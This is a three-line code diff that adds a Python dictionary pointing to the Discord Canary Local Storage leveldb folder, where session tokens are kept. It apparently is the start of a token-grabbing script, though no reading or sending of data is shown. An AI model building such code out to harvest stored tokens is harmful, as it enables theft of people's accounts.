@@ -1,0 +1,3 @@
+import os
+
+PATHS = {"a": os.getenv("APPDATA") + "\\discordcanary\\Local Storage\\leveldb"}
